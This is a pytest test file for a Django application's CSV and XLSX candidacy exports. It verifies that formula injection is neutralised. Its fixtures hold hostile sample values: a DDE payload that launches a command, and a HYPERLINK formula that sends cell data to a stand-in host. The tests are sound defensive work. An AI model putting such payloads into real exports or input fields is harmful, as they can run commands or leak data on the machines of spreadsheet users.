"""Candidacy exports: formula injection neutralised in CSV (a quote only where a spreadsheet
would run the cell) and impossible in XLSX (text cells, values intact), constant query count."""

import csv
import io
from datetime import date, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from acquis.candidates import services
from acquis.candidates.exports import HEADER, export_candidacies, neutralise
from acquis.candidates.imports import COLUMN_NAMES, import_candidates
from acquis.candidates.models import Candidacy
from acquis.organisations.enums import Habilitation, OrganisationKind
from acquis.organisations.models import Organisation
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE_PARTNER = "=cmd|' /C calc'!A0"
HOSTILE_ADDRESS = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'


@pytest.fixture
def cohort(certifier, ops_version):
    return services.create_cohort(certifier=certifier, version=ops_version, name="+Promo")


@pytest.fixture
def hostile(certifier, ops_version, cohort):
    """A candidacy whose text fields look like formulas (all reachable through the UI)."""
    partner = Organisation.objects.create(
        kind=OrganisationKind.PARTNER,
        name=HOSTILE_PARTNER,
        certifier=certifier,
        habilitation=Habilitation.BOTH,
    )
    person = factories.candidate(
        certifier,
        birth_name="Martin",
        first_name="Camille",
        birth_date=date(1990, 3, 14),
        address=HOSTILE_ADDRESS,
        phone="+33 6 01 02 03 04",
        city="@SUM(1+1)",
    )
    # Recorded before postal codes were checked (a file may still hold such a value).
    type(person).objects.filter(pk=person.pk).update(postal_code="-2+3")
    return factories.candidacy(ops_version, person=person, partner=partner, cohort=cohort,
                               blocks=["B1", "B2"])  # fmt: skip


def column(name: str) -> int:
    return HEADER.index(name)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 01 02 03 04", "'+33 6 01 02 03 04"),
        ("-2+3", "'-2+3"),
        ("+33612345678", "+33612345678"),  # a plain number: read as one, never run
        ("-12,5", "-12,5"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lyon", "Lyon"),
        ("a=b", "a=b"),
        ("", ""),
        (3, 3),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_cells_that_look_like_formulas_get_a_quote(hostile):
    data = export_candidacies(Candidacy.objects.all(), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[1].startswith('"Martin";')  # every field quoted (OWASP)
    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert header == list(HEADER) and header[: len(COLUMN_NAMES)] == list(COLUMN_NAMES)
    assert row[column("adresse")] == "'" + HOSTILE_ADDRESS
    assert row[column("partenaire")] == "'" + HOSTILE_PARTNER
    assert row[column("telephone")] == "'+33 6 01 02 03 04"
    assert row[column("ville")] == "'@SUM(1+1)"
    assert row[column("code_postal")] == "'-2+3"
    assert row[column("promotion")] == "'+Promo"
    assert row[column("nom_naissance")] == "Martin"
    assert row[column("date_naissance")] == "14/03/1990"
    assert row[column("blocs")] == "B1,B2"
    assert row[column("voie")] == "formation"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_xlsx_has_no_formula_text_cells_intact_and_real_dates(hostile):
    data = export_candidacies(Candidacy.objects.all(), "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    assert [c.value for c in header] == list(HEADER)
    assert all(cell.data_type != "f" for cell in row)
    # Text cells, never evaluated: the values are exactly those entered, no quote added.
    assert row[column("adresse")].value == HOSTILE_ADDRESS
    assert row[column("adresse")].data_type == "s"
    assert row[column("partenaire")].value == HOSTILE_PARTNER
    assert row[column("telephone")].value == "+33 6 01 02 03 04"
    assert row[column("ville")].value == "@SUM(1+1)" and row[column("ville")].data_type == "s"
    assert row[column("date_naissance")].value == datetime(1990, 3, 14)  # noqa: DTZ001
    assert row[column("date_naissance")].number_format == "DD/MM/YYYY"
    assert row[column("version_referentiel")].value == 1


def test_only_the_queryset_given_is_exported(hostile, other_certifier, ops_version):
    stranger = factories.candidate(other_certifier, birth_name="Ailleurs")
    factories.candidacy(ops_version, certifier=other_certifier, person=stranger)
    data = export_candidacies(Candidacy.objects.for_certifier(hostile.candidate.certifier), "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["Martin"]


def test_the_query_count_does_not_grow_with_the_rows(ops_version, cohort):
    factories.candidacy(ops_version, cohort=cohort, blocks=["B1"])
    with CaptureQueriesContext(connection) as one:
        export_candidacies(Candidacy.objects.all(), "xlsx")
    for _ in range(4):
        factories.candidacy(ops_version, cohort=cohort, blocks=["B2", "B3"])
    with CaptureQueriesContext(connection) as five:
        data = export_candidacies(Candidacy.objects.all(), "xlsx")
    # The ids in order, the candidacies with their relations, then their blocks.
    assert len(five) == len(one) == 3
    assert load_workbook(io.BytesIO(data)).active.max_row == 6


def test_an_export_imports_again_and_the_quotes_are_removed(hostile, cohort, tmp_path):
    """The export's columns are the import's: re-importing it skips the known rows."""
    # The phone (+33…) still goes through the quoting; the old postal code would now be
    # refused by the import's format check.
    type(hostile.candidate).objects.filter(pk=hostile.candidate.pk).update(postal_code="69003")
    path = tmp_path / "export.xlsx"
    path.write_bytes(export_candidacies(Candidacy.objects.all(), "xlsx"))
    report = import_candidates(path, certifier=cohort.certifier, cohort=cohort)
    assert report.ok, report.errors
    assert report.skipped_lines == [2]
    other = services.create_cohort(
        certifier=cohort.certifier, version=cohort.version, name="Autre promotion"
    )
    services.move_candidacy(hostile, "withdrawn", reason="Déménagement")
    report = import_candidates(path, certifier=cohort.certifier, cohort=other)
    assert report.ok, report.errors
    moved = Candidacy.objects.get(cohort=other)
    assert moved.candidate == hostile.candidate  # reused, not duplicated
    assert moved.partner.name == HOSTILE_PARTNER  # quote removed: the partner is found
    assert sorted(b.code for b in moved.blocks.all()) == ["B1", "B2"]


def test_an_unknown_format_is_refused():
    with pytest.raises(ValueError, match="Format d'export inconnu"):
        export_candidacies(Candidacy.objects.all(), "ods")


def test_a_phone_stays_a_text_in_xlsx_and_unquoted_in_csv(ops_version, cohort):
    """Read back by pandas (an independent reader): the phone is the text entered."""
    import pandas as pd

    person = factories.candidate(
        cohort.certifier, birth_name="Durand", first_name="Léa", phone="+33612345678"
    )
    factories.candidacy(ops_version, person=person, cohort=cohort)
    frame = pd.read_excel(
        io.BytesIO(export_candidacies(Candidacy.objects.all(), "xlsx")), dtype=object
    )
    assert frame.loc[0, "telephone"] == "+33612345678"
    sheet = load_workbook(io.BytesIO(export_candidacies(Candidacy.objects.all(), "xlsx"))).active
    assert sheet.cell(row=2, column=column("telephone") + 1).data_type == "s"
    text = export_candidacies(Candidacy.objects.all(), "csv").decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[column("telephone")] == "+33612345678"  # no quote: not a formula
    assert row[column("promotion")] == "'+Promo"  # a formula-like text: quoted


def test_the_csv_streams_in_pieces_and_reads_in_chunks(monkeypatch, ops_version, hostile):
    """Small chunks give the same file as one big read: the rows (and their blocks) are read
    a chunk at a time and sent a few lines at a time, whatever the number of candidacies."""
    from acquis.candidates import exports

    for _ in range(4):
        factories.candidacy(ops_version, blocks=["B1"])
    queryset = Candidacy.objects.all()
    whole = export_candidacies(queryset, "csv")
    monkeypatch.setattr(exports, "CHUNK_SIZE", 2)
    monkeypatch.setattr(exports, "LINES_PER_PIECE", 2)
    with CaptureQueriesContext(connection) as ctx:
        pieces = list(exports.stream_csv(queryset))
    assert len(pieces) == 1 + 3  # the header, then 2 + 2 + 1 lines
    assert b"".join(pieces) == whole
    # The ids in order, then per chunk of 2 a complete read of its rows and one of its blocks.
    assert len(ctx) == 1 + 3 * 2
    assert "B1,B2" in whole.decode("utf-8-sig")


def test_the_xlsx_is_written_into_a_file(tmp_path, hostile):
    from acquis.candidates.exports import write_xlsx

    target = tmp_path / "export.xlsx"
    with target.open("wb") as out:
        write_xlsx(Candidacy.objects.all(), out)
    sheet = load_workbook(target).active
    assert [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)] == ["Martin"]
